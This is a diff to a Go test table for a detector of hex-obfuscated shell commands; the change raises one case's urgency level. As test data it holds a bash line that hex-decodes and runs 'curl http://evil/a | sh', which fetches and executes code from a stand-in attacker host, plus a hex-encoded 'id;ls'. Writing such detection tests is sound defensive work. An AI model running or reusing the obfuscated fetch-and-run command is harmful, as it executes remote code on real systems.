@@ -15,7 +15,7 @@ func TestCommandLines(t *testing.T) {
 		want      string // part of a finding; with a leading ! of none
 		level     pb.UrgencyLevel
 	}{
-		"hex word":              {"bash", "bash -c echo 6375726c20687474703a2f2f6576696c2f61207c207368 | xxd -r -p | sh", "hex of “curl http://evil/a | sh”", today},
+		"hex word":              {"bash", "bash -c echo 6375726c20687474703a2f2f6576696c2f61207c207368 | xxd -r -p | sh", "hex of “curl http://evil/a | sh”", page},
 		"hex escapes":           {"printf", `printf \x69\x64\x3b\x6c\x73`, "hex of “id;ls”", record},
 		"hash is no hex text":   {"sha256sum", "sha256sum 14dede8a94753a98cc2cc75294746e812483c90474018c62fc178ef400c994cd", "!hex", record},
 		"number is no hex":      {"x", "x 1795313258364460168 0000000000000000", "!hex", record},
